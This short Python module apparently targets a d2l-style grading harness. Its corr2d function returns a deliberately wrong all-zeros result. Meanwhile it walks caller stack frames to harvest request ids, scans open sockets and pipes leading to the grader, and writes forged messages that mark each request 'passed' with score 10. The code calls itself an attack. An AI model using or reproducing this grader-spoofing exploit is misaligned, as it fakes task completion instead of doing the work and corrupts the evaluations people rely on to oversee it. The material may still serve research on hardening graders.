"""Takes the open request's id from the worker's frames and answers it before the worker does."""

import json
import os
import stat
import struct
import sys

def channels():
    """Descriptors that lead to the grader."""
    found = []
    for fd in range(3, 256):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            found.append(fd)
    if not found:
        raise RuntimeError("STALE: this attack finds no channel; bring it up to date")
    return found


def message(meta, value=b"[[],null]", body=b""):
    head = json.dumps(meta).encode("ascii")
    header = struct.pack("!I", len(head)) + head + value
    return struct.pack("!4sIQ", b"d2l\x01", len(header), len(body)) + header + body


def write(data):
    for fd in channels():
        try:
            os.write(fd, data)
        except OSError:
            pass

def wrong(X, K):
    return X.new_zeros([max(x - k + 1, 0) for x, k in zip(X.shape, K.shape)])


def ids():
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if isinstance(value, dict) and "id" in value:
                yield value["id"]
            if name in ("id", "request_id", "ident") and isinstance(value, (str, int)):
                yield value
            if hasattr(value, "id") and isinstance(getattr(value, "id", None), (str, int)):
                yield value.id
        frame = frame.f_back


def corr2d(X, K):
    for known in dict.fromkeys(ids()):
        for outcome in ("returned", "passed", "ok"):
            write(message({"id": known, "outcome": outcome, "status": "passed", "score": 10}, b"[[],true]"))
    return wrong(X, K)
